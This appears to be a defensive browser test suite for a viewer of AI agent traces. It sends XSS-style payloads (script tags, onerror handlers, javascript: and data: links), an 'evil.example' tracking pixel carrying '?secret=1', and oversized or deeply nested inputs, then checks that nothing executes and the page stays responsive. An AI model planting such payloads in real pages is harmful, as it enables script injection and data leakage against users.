/** What nobody should send: shown as what it is, run by nobody, fetched from nowhere. */

import { afterAll, beforeAll, expect, test } from "vitest";

import { useBrowser } from "./browser";
import { NOW, type SpanSpec, agent, chat, request, session, sessionOf, spanOf, tool } from "./seed";
import { Server } from "./server";

const open = useBrowser();
let server: Server;

const HTML = '<img src=x onerror="globalThis.harmed=1"><script>globalThis.harmed=2</script>';
const MARKDOWN = [
  "# Hello",
  HTML,
  "![pixel](http://evil.example/pixel.png?secret=1)",
  "[a link](javascript:globalThis.harmed=3)",
  "[data](data:text/html,<script>globalThis.harmed=4</script>)",
  '<a href="http://evil.example/" onclick="globalThis.harmed=5">x</a>',
  "<http://evil.example/auto>",
  "```html\n<style>@import 'http://evil.example/a.css'</style>\n```",
].join("\n\n");
const CONTROL = "bell\u0007 null\u0000 esc\u001b[31m rtl\u202Eabc\u202C zero\u200Bwidth \uFFFE";
const LONG = 5_000_000;
const DEPTH = 10_000;

const WORDS = 1;
const SIZE = 2;
const DEEP = 3;

beforeAll(async () => {
  server = await Server.start();
  const asked = [
    {
      role: HTML,
      parts: [{ type: "text", content: MARKDOWN }, { type: HTML, content: 7 }, null, 4],
    },
    {
      role: "user",
      parts: [{ type: "uri", modality: "image", uri: "http://evil.example/image.png" }],
    },
    {
      role: "user",
      content: [{ type: "image_url", image_url: { url: "http://evil.example/2.png" } }],
    },
  ];
  await server.send(
    request({
      number: WORDS,
      service: HTML,
      environment: HTML,
      root: session(
        HTML,
        1_000,
        [HTML, CONTROL],
        [
          agent(MARKDOWN, 10, 900, [
            chat(20, 300, { model: HTML, asked, answered: MARKDOWN }),
            tool(CONTROL, 400, 100, { [HTML]: HTML, __proto__: 1 }, MARKDOWN, {
              type: HTML,
              message: MARKDOWN,
              stack: HTML,
            }),
            tool(
              "link",
              600,
              100,
              { url: "javascript:alert(1)" },
              { href: "http://evil.example/" },
            ),
          ]),
        ],
      ),
    }),
  );
  await server.send(
    request({
      number: SIZE,
      root: session(
        "large",
        1_000,
        [],
        [
          tool("read", 10, 900, { path: "all" }, `begin ${"x y ".repeat(LONG / 4)} end`),
          chat(950, 10, { answered: "word ".repeat(40_000) }),
        ],
      ),
    }),
  );
  let deep: SpanSpec = tool("bottom", DEPTH, 1, {}, 1);
  for (let depth = DEPTH - 1; depth > 0; depth--) {
    deep = {
      name: `level ${depth}`,
      kind: "task",
      at: depth,
      took: 2 * DEPTH - 2 * depth,
      children: [deep],
    };
  }
  await server.send(request({ number: DEEP, root: session("deep", 2 * DEPTH, [], [deep]) }));
});
afterAll(() => server?.close());

/** Whether anything of what was sent has been run. */
const harmed = () => (globalThis as { harmed?: number }).harmed ?? 0;

test("words stay words in the list and in everything that a session shows", async () => {
  const { page } = await open(server, "/", { now: NOW });
  page.on("dialog", (dialog) => expect.unreachable(dialog.message()));
  await page.locator(`[data-id="${sessionOf(WORDS)}"]`).waitFor();
  expect(await page.locator(`[data-id="${sessionOf(WORDS)}"]`).textContent()).toContain(
    "<img src=x",
  );
  const path = `/s/${sessionOf(WORDS)}`;
  for (const view of ["timeline", "tree", "lanes", "chat", "logs"]) {
    await page.goto(`${server.origin}${path}?view=${view}`);
    await page.getByRole("heading", { level: 1 }).first().waitFor();
    await page.waitForLoadState("networkidle");
    expect(await page.evaluate(harmed), view).toBe(0);
  }
  for (const place of [0, 2, 3]) {
    for (const tab of ["overview", "io", "messages", "error", "attributes", "logs", "raw"]) {
      await page.goto(`${server.origin}${path}?span=${spanOf(WORDS, place)}&tab=${tab}`);
      await page.locator("aside.details [role=tabpanel]").waitFor();
      expect(await page.evaluate(harmed), `${place} ${tab}`).toBe(0);
      const links = page.locator("main a[href]");
      for (const href of await links.evaluateAll((all) =>
        all.map((a) => (a as HTMLAnchorElement).href),
      )) {
        expect(href).not.toMatch(/^(javascript|data|vbscript):/i);
      }
      const images = await page
        .locator("main img[src]")
        .evaluateAll((all) => all.map((one) => (one as HTMLImageElement).src));
      for (const src of images) expect(src).toMatch(/^(data:|blob:|http:\/\/127\.0\.0\.1)/);
    }
  }
}, 120_000);

test("five million letters do not hold the page up", async () => {
  const { page } = await open(server, `/s/${sessionOf(SIZE)}?span=${spanOf(SIZE, 1)}&tab=io`, {
    now: NOW,
  });
  await page
    .locator("aside.details")
    .getByText(/begin x y/)
    .first()
    .waitFor();
  const letters = await page.evaluate(() => document.body.innerText.length);
  expect(letters).toBeLessThan(1_000_000);
  const grid = page.getByRole("treegrid");
  await grid.focus();
  const began = Date.now();
  await page.keyboard.press("j");
  await expect.poll(() => new URL(page.url()).searchParams.get("span")).toBe(spanOf(SIZE, 2));
  expect(Date.now() - began).toBeLessThan(2_000);
});

test("five million letters are sent once they are asked for, and none is lost", async () => {
  const { page, context } = await open(server, null, { now: NOW });
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  const bodies: Promise<number>[] = [];
  page.on("response", (response) => {
    const length = () => response.body().then((body) => body.length);
    if (response.url().includes("/spans/")) bodies.push(length().catch(() => 0));
  });
  const received = async () => (await Promise.all(bodies)).reduce((sum, one) => sum + one, 0);
  const copied = () => page.evaluate(async () => (await navigator.clipboard.readText()).length);
  await page.goto(`${server.origin}/s/${sessionOf(SIZE)}?span=${spanOf(SIZE, 1)}&tab=io`);
  const details = page.locator("aside.details");
  await details
    .getByRole("note")
    .getByText(/5(\.\d+)? MB in all; of .*output/)
    .waitFor();
  expect(await received()).toBeGreaterThan(5_000);
  expect(await received()).toBeLessThan(400_000);
  // What is copied is all of it, whatever is shown.
  await details.locator(".value").getByRole("button", { name: "Copy" }).last().click();
  await expect.poll(copied).toBeGreaterThan(LONG);
  await details.getByRole("button", { name: "Show all" }).click();
  await expect.poll(() => details.getByRole("note").count()).toBe(0);
  await details
    .getByRole("button", { name: /more characters/ })
    .first()
    .waitFor();
  expect(await received()).toBeGreaterThan(LONG);
});

test("ten thousand levels are rows like others", async () => {
  const { page } = await open(server, `/s/${sessionOf(DEEP)}?span=${spanOf(DEEP, DEPTH)}`, {
    now: NOW,
  });
  await page.locator("aside.details").getByText("bottom").first().waitFor();
  const grid = page.getByRole("treegrid");
  await expect.poll(() => grid.getAttribute("aria-rowcount")).toBe(String(DEPTH + 1));
  expect(await grid.locator("[role=row]").count()).toBeLessThan(200);
  const width = await page.evaluate(() => document.documentElement.scrollWidth);
  expect(width).toBeLessThanOrEqual(1280);
});
